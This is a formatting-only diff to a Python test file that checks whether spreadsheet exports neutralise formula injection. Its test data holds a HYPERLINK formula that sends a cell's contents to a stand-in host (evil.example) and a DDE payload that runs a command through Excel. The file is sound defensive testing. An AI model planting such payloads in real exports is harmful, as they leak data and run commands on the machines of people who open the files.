@@ -22,8 +22,13 @@ from motcua.reports.xlsx_stream import StreamedSheet
 pytestmark = pytest.mark.django_db
 
 # (A carriage return is neutralised too, but XML reads it back as a line feed.)
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-2+3",
-           "@SUM(1+1)", "\t=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+]
 
 
 def _cells(out: io.BytesIO):
@@ -58,8 +63,10 @@ def test_the_write_only_workbooks_of_statistics_and_briefings_write_no_formula()
     book.save(out)
     cells = _cells(out)
     _assert_neutralised(cells, ATTACKS + ["=1+1"])
-    assert [cell.value for cell in cells
-            if cell.data_type == "n" and cell.value is not None] == [5, 1.5]
+    assert [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None] == [
+        5,
+        1.5,
+    ]
 
 
 def test_the_register_of_a_dossier_whose_applicant_typed_a_formula(db):
@@ -75,13 +82,18 @@ def test_the_register_of_a_dossier_whose_applicant_typed_a_formula(db):
 def test_the_catalogue_export_keeps_a_formula_like_name_as_text_that_imports_back(db):
     world = build_world()
     name = "=cmd|' /C calc'!A0"
-    version = catalog.create_procedure(world.agency, name=name, national_code="9.999999",
-                                       time_limit_value=Decimal(5),
-                                       time_limit_unit=TimeUnit.WORKING_DAYS)
+    version = catalog.create_procedure(
+        world.agency,
+        name=name,
+        national_code="9.999999",
+        time_limit_value=Decimal(5),
+        time_limit_unit=TimeUnit.WORKING_DAYS,
+    )
     assert version.name == name
     out = io.BytesIO()
     export_catalog(world.agency).save(out)
     out.seek(0)
-    cells = [cell for sheet in load_workbook(out).worksheets for row in sheet.iter_rows()
-             for cell in row]
+    cells = [
+        cell for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for cell in row
+    ]
     _assert_neutralised(cells, [name])
